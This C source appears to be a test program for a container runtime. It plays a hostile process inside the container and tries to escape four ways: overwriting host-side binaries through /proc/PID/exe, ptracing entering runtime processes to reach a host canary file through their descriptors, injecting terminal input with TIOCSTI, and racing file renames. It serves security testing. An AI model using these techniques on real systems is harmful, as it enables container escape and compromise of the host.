/*
 * attack - what a hostile program in a container tries on the runtime that enters it.
 *
 * usage: attack exe SECONDS       write to the binaries of processes that are none of the container's
 *        attack trace SECONDS CANARY
 *                                 trace processes while they enter, read their descriptors, and reach the file CANARY
 *                                 of the host through them
 *        attack tiocsti           put input into the terminal that is stdin
 *        attack swap A B          exchange two names until killed
 *
 * Says what it got, and what it had before it; always succeeds.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <stdarg.h>
#include <stdlib.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include "base/clock.h"
#include "base/str.h"

#define PATH_BYTES 512
#define CATCHES_MAX 64
#define PATIENCE_MS 50000

static void path_of(char buf[static PATH_BYTES], const char *fmt, ...) PRINTF(2, 3);

static void path_of(char buf[static PATH_BYTES], const char *fmt, ...)
{
	va_list ap;

	va_start(ap, fmt);
	(void)vsnprintf(buf, PATH_BYTES, fmt, ap);
	va_end(ap);
}

/* What never met its victim proves nothing, so it may take longer. */
static bool goes_on(uint64_t until, size_t n)
{
	uint64_t now = mono_ms();

	return now < until || (n == 0 && now < until + PATIENCE_MS);
}

/* Every other process that /proc shows. */
static void each_process(void (*visit)(pid_t pid, void *arg), void *arg)
{
	DIR *d = opendir("/proc");
	struct dirent *entry;

	while (d && (entry = readdir(d))) {
		struct str s = str_of(entry->d_name);
		uint64_t pid;

		if (scan_u64(&s, INT32_MAX, &pid) && scan_end(&s) && (pid_t)pid != getpid())
			visit((pid_t)pid, arg);
	}
	if (d)
		(void)closedir(d);
}

/* ---- exe ---- */

struct catch
{
	int fds[CATCHES_MAX];
	ino_t inodes[CATCHES_MAX];
	size_t n;
	unsigned written, seen;
};

static bool is_of_container(const struct stat *st)
{
	static const char *const own[] = { "/bin/busybox", "/bin/attack" };
	struct stat mine;

	for (size_t i = 0; i < ARRAY_LEN(own); i++) {
		if (stat(own[i], &mine) == 0 && mine.st_ino == st->st_ino &&
		    mine.st_dev == st->st_dev)
			return true;
	}
	return false;
}

static bool is_known(const struct catch *c, ino_t inode)
{
	for (size_t i = 0; i < c->n; i++) {
		if (c->inodes[i] == inode)
			return true;
	}
	return false;
}

static void catch_exe(pid_t pid, void *arg)
{
	struct catch *c = arg;
	char path[PATH_BYTES];
	struct stat st;
	int fd;

	c->seen++;
	path_of(path, "/proc/%d/exe", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	if (fstat(fd, &st) < 0 || is_of_container(&st) || is_known(c, st.st_ino) ||
	    c->n == CATCHES_MAX) {
		(void)close(fd);
		return;
	}
	c->inodes[c->n] = st.st_ino;
	c->fds[c->n++] = fd;
}

static void write_exes(struct catch *c)
{
	for (size_t i = 0; i < c->n; i++) {
		char path[PATH_BYTES];
		int fd;

		path_of(path, "/proc/self/fd/%d", c->fds[i]);
		fd = open(path, O_WRONLY | O_CLOEXEC);
		if (fd >= 0 && pwrite(fd, "pwned", 5, 0) == 5)
			c->written++;
		if (fd >= 0)
			(void)close(fd);
	}
}

static void attack_exe(uint64_t until)
{
	struct catch c = { 0 };

	while (goes_on(until, c.n)) {
		each_process(catch_exe, &c);
		write_exes(&c);
	}
	(void)printf("caught %zu written %u seen %d\n", c.n, c.written, c.seen > 0);
}

/* ---- trace ---- */

struct trace {
	const char *canary;
	unsigned traced, fds, reached, met;
	char what[PATH_BYTES];
};

/* Alive, and not yet a program of the container: also if nobody may look. */
static bool is_runtime(pid_t pid)
{
	char path[PATH_BYTES];
	struct stat st;

	path_of(path, "/proc/%d/exe", pid);
	if (stat(path, &st) == 0)
		return !is_of_container(&st);
	return errno == EACCES || errno == EPERM;
}

static unsigned read_descriptors(pid_t pid, char what[static PATH_BYTES])
{
	char path[PATH_BYTES], target[PATH_BYTES];
	struct dirent *entry;
	unsigned n_fds = 0;
	DIR *d;

	path_of(path, "/proc/%d/fd", pid);
	d = opendir(path);
	while (d && (entry = readdir(d))) {
		ssize_t n = readlinkat(dirfd(d), entry->d_name, target, sizeof(target) - 1);

		if (n <= 0)
			continue;
		target[n] = '\0';
		n_fds++;
		path_of(what, "%s", target);
	}
	if (d)
		(void)closedir(d);
	return n_fds;
}

static unsigned reach(pid_t pid, const char *canary)
{
	static const char *const ways[] = { "root", "cwd",  "fd/3", "fd/4",
					    "fd/5", "fd/6", "fd/7", "fd/8" };
	unsigned reached = 0;

	for (size_t i = 0; i < ARRAY_LEN(ways); i++) {
		char path[PATH_BYTES];
		struct stat st;

		path_of(path, "/proc/%d/%s/../../../../../..%s", pid, ways[i], canary);
		reached += stat(path, &st) == 0;
	}
	return reached;
}

/* What succeeds on a process that becomes the container's program meanwhile proves nothing. */
static void try_process(pid_t pid, void *arg)
{
	struct trace *t = arg;
	unsigned fds, reached;
	bool traced;

	if (!is_runtime(pid))
		return;
	t->met++;
	traced = ptrace(PTRACE_SEIZE, pid, NULL, NULL) == 0;
	fds = read_descriptors(pid, t->what);
	reached = reach(pid, t->canary);
	if (is_runtime(pid)) {
		t->traced += traced;
		t->fds += fds;
	}
	t->reached += reached; /* no program of the container gets there either */
	if (!traced)
		return;
	(void)ptrace(PTRACE_INTERRUPT, pid, NULL, NULL);
	(void)waitpid(pid, NULL, __WALL);
	(void)ptrace(PTRACE_DETACH, pid, NULL, NULL);
}

static void attack_trace(uint64_t until, const char *canary)
{
	struct trace t = { .canary = canary };

	while (goes_on(until, t.met))
		each_process(try_process, &t);
	(void)printf("traced %u fds %u reached %u of %u %s\n", t.traced, t.fds, t.reached, t.met,
		     t.what);
}

/* ---- others ---- */

static void attack_tiocsti(void)
{
	int r = ioctl(STDIN_FILENO, TIOCSTI, "x");

	(void)printf("tiocsti %s\n", r == 0 ? "done" : strerror(errno));
}

static _Noreturn void swap(const char *a, const char *b)
{
	for (;;)
		(void)syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE);
}

int main(int argc, char **argv)
{
	const char *how = argc > 1 ? argv[1] : "";
	uint64_t until = mono_ms() + (argc > 2 ? strtoul(argv[2], NULL, 10) * 1000 : 0);

	if (strcmp(how, "exe") == 0)
		attack_exe(until);
	else if (strcmp(how, "trace") == 0 && argc > 3)
		attack_trace(until, argv[3]);
	else if (strcmp(how, "tiocsti") == 0)
		attack_tiocsti();
	else if (strcmp(how, "swap") == 0 && argc > 3)
		swap(argv[2], argv[3]);
	else
		return 2;
	return 0;
}
